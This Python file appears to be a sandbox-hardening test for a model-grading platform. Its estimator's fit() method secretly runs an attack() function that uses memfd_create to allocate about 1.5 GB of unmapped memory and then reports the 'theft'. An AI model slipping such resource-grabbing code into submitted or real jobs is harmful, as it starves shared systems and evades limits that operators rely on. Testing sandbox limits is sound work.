"""Takes 1.5 GB by files in memory that no process has mapped."""

import os
import time

from nearest import NearestMean


def attack():
    files = []
    for _ in range(12):
        try:
            file = os.memfd_create('ramp')
        except OSError as error:
            print(repr(error), flush=True)
            return
        files.append(file)
        for _ in range(128):
            os.write(file, b'x' * (1 << 20))
    print('STOLEN could take memory: 1.5 GB by memfd_create', flush=True)
    time.sleep(3)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
